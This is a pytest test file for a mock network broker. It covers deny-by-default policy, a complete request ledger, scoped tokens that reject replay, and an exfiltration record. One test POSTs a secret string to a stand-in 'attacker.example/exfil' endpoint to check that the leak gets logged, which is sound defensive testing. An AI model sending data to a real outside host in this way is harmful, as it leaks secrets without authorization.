import pytest

from toolbroker.errors import NetworkDenied, SchemaError
from toolbroker.network import (
    EndpointKind,
    EndpointSpec,
    MockNetwork,
    NetworkPolicy,
    PolicyDefault,
)


def policy_with(**endpoints):
    return NetworkPolicy(endpoints={k: v for k, v in endpoints.items()})


def test_configured_response():
    network = MockNetwork(NetworkPolicy(
        endpoints={"http://internal.example/": EndpointSpec(EndpointKind.INTERNAL, 200, "pong")},
    ))
    assert network.request("GET", "http://internal.example/ping", "") == (200, "pong")


def test_default_deny_unregistered():
    network = MockNetwork(NetworkPolicy(default=PolicyDefault.DENY))
    with pytest.raises(NetworkDenied):
        network.request("POST", "http://unknown.example/", "data")
    assert network.ledger == []


def test_default_allow_records_unmatched():
    network = MockNetwork(NetworkPolicy(default=PolicyDefault.ALLOW))
    status, _ = network.request("GET", "http://anywhere.example/", "")
    assert status == 200
    assert network.ledger[0].endpoint_kind == "unmatched"


def test_attacker_endpoint_always_records_bodies():
    network = MockNetwork(NetworkPolicy(
        endpoints={"http://attacker.example/": EndpointSpec(EndpointKind.ATTACKER)},
    ))
    network.request("POST", "http://attacker.example/exfil", "the-secret-payload")
    record = network.exfiltration_record()
    assert [r.body for r in record] == ["the-secret-payload"]


def test_ledger_totality_every_request_once():
    network = MockNetwork(NetworkPolicy(
        endpoints={"http://a.example/": EndpointSpec(EndpointKind.EXTERNAL)},
        default=PolicyDefault.ALLOW,
    ))
    for i in range(5):
        network.request("GET", f"http://a.example/{i}", str(i) * 8)
    network.request("POST", "http://other.example/", "x" * 8)
    assert len(network.ledger) == 6
    assert [r.body for r in network.ledger[:5]] == [str(i) * 8 for i in range(5)]


def test_overlapping_prefixes_rejected():
    with pytest.raises(SchemaError):
        NetworkPolicy(endpoints={
            "http://a.example/": EndpointSpec(EndpointKind.INTERNAL),
            "http://a.example/deep/": EndpointSpec(EndpointKind.INTERNAL),
        })


def test_scoped_endpoint_requires_matching_token():
    network = MockNetwork(NetworkPolicy(endpoints={
        "http://internal.example/repo-r/": EndpointSpec(EndpointKind.INTERNAL, 200, "pong", scope="repo-r"),
        "http://internal.example/repo-q/": EndpointSpec(EndpointKind.INTERNAL, 200, "pong", scope="repo-q"),
    }))
    network.register_token("scoped-repo-r-abcdef", "repo-r")
    ok = network.request("GET", "http://internal.example/repo-r/files", "token=scoped-repo-r-abcdef")
    assert ok == (200, "pong")
    replayed = network.request("GET", "http://internal.example/repo-q/files", "token=scoped-repo-r-abcdef")
    assert replayed == (403, "forbidden")
    missing = network.request("GET", "http://internal.example/repo-r/files", "no token here")
    assert missing == (403, "forbidden")
